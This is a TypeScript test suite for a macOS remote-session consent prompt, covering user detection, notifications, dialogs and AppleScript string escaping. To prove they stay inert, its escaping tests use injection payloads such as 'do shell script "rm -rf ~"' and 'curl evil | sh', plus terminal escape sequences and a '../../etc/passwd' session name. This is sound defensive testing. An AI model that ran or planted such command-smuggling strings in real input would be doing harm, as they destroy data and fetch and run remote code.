import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { ConsentUnavailable, type InteractiveUser } from '../../../agent/consent/consent-prompter.ts';
import { displayable } from '../../../agent/consent/consent-text.ts';
import { MacosConsent, appleScriptText, dialogScript } from '../../../agent/consent/macos-consent.ts';
import type { CommandRunner } from '../../../agent/platform/run-command.ts';
import { StdinTranscriptRunner, loadStdinTranscript, type StdinScripted } from '../../helpers/consent-transcripts.ts';

// Contract tests on transcripts whose argv, stdin and output follow Apple's man pages and AppleScript guides
// (see each file's "# source:" lines in ../../fixtures/consent/macos).
const dir = path.resolve(import.meta.dirname, '../../fixtures/consent/macos');
const transcript = (name: string, extra: Partial<StdinScripted> = {}): StdinScripted => ({ ...loadStdinTranscript(path.join(dir, name)), ...extra });
const answer = (argv: string[], code: number | null, stdout: string, stderr = ''): StdinScripted => ({ argv, input: '', result: { code, stdout, stderr } });

const TEXT = { title: 'Remote session request', message: 'Dana Lee from Contoso IT wants to start a remote session on this computer.' };
const ALICE: InteractiveUser = { name: 'alice', session: 'console', graphical: true };
const BOB: InteractiveUser = { name: 'bob', session: 'ttys001', graphical: false };
const STAT = ['stat', '-f', '%Su', '/dev/console'];

let runner: StdinTranscriptRunner | undefined;
let terminals: string;
function consent(...scripted: StdinScripted[]) {
  runner = new StdinTranscriptRunner(scripted);
  return new MacosConsent(runner.run, { terminalDir: terminals });
}
beforeEach(() => {
  runner = undefined;
  terminals = mkdtempSync(path.join(os.tmpdir(), 'macos-ttys-'));
});
afterEach(() => {
  rmSync(terminals, { recursive: true, force: true });
  expect(runner?.unexpected ?? []).toEqual([]);
});

describe('interactive users', () => {
  it('the owner of /dev/console is the GUI user; ssh logins are text sessions; local Terminal windows are not listed', async () => {
    const users = await consent(transcript('stat-console-alice.txt'), transcript('who.txt')).interactiveUsers();
    expect(users).toEqual([ALICE, BOB]);
    expect(runner?.uncalled()).toEqual([]);
  });

  it.each(['root', 'loginwindow', '_mbsetupuser'])('nobody is at the screen while /dev/console belongs to %s', async (owner) => {
    expect(await consent(answer(STAT, 0, `${owner}\n`), answer(['who'], 0, '')).interactiveUsers()).toEqual([]);
  });

  it('the login window with someone logged in over ssh: only the text session', async () => {
    expect(await consent(transcript('stat-console-root.txt'), transcript('who.txt')).interactiveUsers()).toEqual([BOB]);
  });

  it('throws when stat or who fail (an empty list would say "nobody to tell") or the owner is not a plain short name', async () => {
    await expect(consent(answer(STAT, 1, '', 'stat: /dev/console: stat: No such file or directory\n')).interactiveUsers()).rejects.toThrow(/stat \/dev\/console exited 1/);
    await expect(consent(transcript('stat-console-alice.txt'), answer(['who'], null, '', 'ENOENT who')).interactiveUsers()).rejects.toThrow(/who exited null/);
    await expect(consent(answer(STAT, 0, '-rf\n')).interactiveUsers()).rejects.toThrow(/unexpected owner/);
  });
});

describe('notify', () => {
  it('shows a notification as the console user in their GUI session, the script on stdin', async () => {
    expect(await consent(transcript('id-alice.txt'), transcript('osascript-notify.txt')).notify([ALICE], TEXT)).toEqual([ALICE]);
    expect(runner?.calls.map((c) => c.argv)).toEqual([
      ['id', '-u', 'alice'],
      ['launchctl', 'asuser', '501', 'sudo', '-n', '-u', 'alice', 'osascript', '-'],
    ]);
  });

  it('writes to an ssh login\'s terminal, with escape sequences and bells from the text made harmless', async () => {
    writeFileSync(path.join(terminals, 'ttys001'), '');
    const text = { title: 'Remote \x1b[2Jsession', message: 'Dana Lee \x1b]0;pwned\x07from Contoso IT\nstarted a session.' };
    expect(await consent().notify([BOB], text)).toEqual([BOB]);
    const written = readFileSync(path.join(terminals, 'ttys001'), 'utf8');
    expect(written).toContain('*** Remote  [2Jsession ***');
    expect(written).toContain('Dana Lee  ]0;pwned from Contoso IT\r\nstarted a session.');
    expect(written.replace(/^\r\n\x07/, '')).not.toMatch(/[\x00-\x09\x0b\x0c\x0e-\x1f\x7f]/);
  });

  it('leaves out whom it could not reach: osascript failed, the terminal is gone, or the session is not one it knows', async () => {
    const failed = { ...transcript('osascript-notify.txt'), result: { code: 1, stdout: '', stderr: 'execution error: No user interaction allowed. (-1713)\n' } };
    const odd: InteractiveUser = { name: 'carol', session: '../../etc/passwd', graphical: false };
    expect(await consent(transcript('id-alice.txt'), failed).notify([ALICE, BOB, odd], TEXT)).toEqual([]);
  });
});

describe('ask (display dialog, Deny default and cancel button)', () => {
  const asked = (...scripted: StdinScripted[]) => consent(transcript('id-alice.txt'), ...scripted).ask([ALICE, BOB], TEXT, 60_000);

  it('Allow is consent', async () => {
    expect(await asked(transcript('osascript-ask-allow.txt'))).toEqual({ answer: 'allowed', by: 'alice' });
    expect(runner?.calls[1].timeoutMs).toBeGreaterThan(60_000);
  });

  it('Deny (the cancel button: error -128, exit 1) is a refusal', async () => {
    expect(await asked(transcript('osascript-ask-deny.txt'))).toEqual({ answer: 'denied', by: 'alice' });
  });

  it('a dialog that gave up is a timeout', async () => {
    expect(await asked(transcript('osascript-ask-gave-up.txt'))).toEqual({ answer: 'timeout', by: null });
  });

  it('a dialog that could not be shown is not an answer: ConsentUnavailable', async () => {
    await expect(asked(transcript('osascript-ask-no-gui.txt'))).rejects.toBeInstanceOf(ConsentUnavailable);
    const garbled = { ...transcript('osascript-ask-allow.txt'), result: { code: 0, stdout: 'Allow\n', stderr: '' } };
    await expect(asked(garbled)).rejects.toBeInstanceOf(ConsentUnavailable);
  });

  it('ConsentUnavailable when the uid cannot be found, or only text sessions are logged on (nothing run for them)', async () => {
    await expect(consent(answer(['id', '-u', 'alice'], 1, '', 'id: alice: no such user\n')).ask([ALICE], TEXT, 60_000)).rejects.toBeInstanceOf(ConsentUnavailable);
    await expect(consent().ask([BOB], TEXT, 60_000)).rejects.toThrow(/nobody is logged in at the Mac's screen/);
    expect(runner?.calls).toEqual([]);
  });

  it('rounds the timeout up to whole seconds for "giving up after"', async () => {
    const input = `${dialogScript(TEXT, 2)}\n`;
    expect(input).toContain('giving up after 2 with icon caution');
    const gaveUp = { ...transcript('osascript-ask-gave-up.txt'), input };
    expect(await consent(transcript('id-alice.txt'), gaveUp).ask([ALICE], TEXT, 1_500)).toEqual({ answer: 'timeout', by: null });
  });
});

/** Evaluates the subset of AppleScript appleScriptText emits; throws on anything else, so a payload that escaped a literal fails. */
function evaluate(source: string, from = 0): { value: string; end: number } {
  if (source.startsWith('""', from)) return { value: '', end: from + 2 };
  if (source[from] !== '(') throw new Error(`expected ( at ${from}`);
  let i = from + 1;
  let value = '';
  for (;;) {
    const id = /^\(character id (\d+)\)/.exec(source.slice(i));
    if (id) {
      value += String.fromCodePoint(Number(id[1]));
      i += id[0].length;
    } else if (source[i] === '"') {
      i++;
      while (source[i] !== '"') {
        if (i >= source.length) throw new Error('unterminated literal');
        if (source[i] === '\\') i++;
        value += source[i++];
      }
      i++;
    } else throw new Error(`unexpected ${JSON.stringify(source.slice(i, i + 10))}`);
    if (source[i] === ')') return { value, end: i + 1 };
    if (!source.startsWith(' & ', i)) throw new Error(`expected & at ${i}`);
    i += 3;
  }
}

describe('AppleScript text escaping', () => {
  it.each([
    ['plain', 'Dana Lee', '("Dana Lee")'],
    ['quotes and backslashes', 'say "hi" \\ bye', '("say \\"hi\\" \\\\ bye")'],
    ['a line break', 'one\ntwo', '("one" & (character id 10) & "two")'],
    ['CRLF becomes one line break', 'one\r\ntwo', '("one" & (character id 10) & "two")'],
    ['non-ASCII', 'Jürgen', '("J" & (character id 252) & "rgen")'],
    ['an emoji, one code point', 'ok 🙂', '("ok " & (character id 128578))'],
    ['a tab and an escape sequence become spaces', 'a\tb\x1b[31m', '("a b [31m")'],
    ['a lone surrogate', 'x\ud800', '("x" & (character id 65533))'],
    ['empty', '', '""'],
  ])('%s', (_, text, expected) => {
    const escaped = appleScriptText(text);
    expect(escaped).toBe(expected);
    expect(escaped).toMatch(/^[\x20-\x7e]*$/);
    expect(evaluate(escaped)).toEqual({ value: displayable(text), end: escaped.length });
  });

  const PAYLOADS = [
    '"; do shell script "rm -rf ~"; "',
    '" & (do shell script "id") & "',
    '\\"); do shell script "curl evil | sh" --',
    'Dana\n" buttons {"Allow"} default button "Allow',
    '$(calc) `id` \'; Remove-Item',
  ];

  it.each(PAYLOADS)('a technician named %j stays inert inside the dialog script', async (name) => {
    const text = { title: `${name} (Contoso)`, message: `${name} from Contoso IT wants to start a remote session.` };
    const script = dialogScript(text, 60);
    const message = evaluate(script, 'display dialog '.length);
    expect(message.value).toBe(displayable(text.message));
    const tail = script.slice(message.end);
    expect(tail.startsWith(' with title ')).toBe(true);
    const title = evaluate(script, message.end + ' with title '.length);
    expect(title.value).toBe(displayable(text.title));
    expect(script.slice(title.end)).toBe(' buttons {"Deny", "Allow"} default button "Deny" cancel button "Deny" giving up after 60 with icon caution');

    const calls: { argv: string[]; input: string }[] = [];
    const capture: CommandRunner = async (file, args, opts) => {
      calls.push({ argv: [file, ...args], input: opts?.input ?? '' });
      if (file === 'id') return { code: 0, stdout: '501\n', stderr: '' };
      return { code: 1, stdout: '', stderr: '0:200: execution error: User canceled. (-128)\n' };
    };
    expect(await new MacosConsent(capture).ask([ALICE], text, 60_000)).toEqual({ answer: 'denied', by: 'alice' });
    expect(calls[1].input).toBe(`${script}\n`);
    for (const arg of calls.flatMap((c) => c.argv)) expect(arg).not.toContain('shell');
  });
});
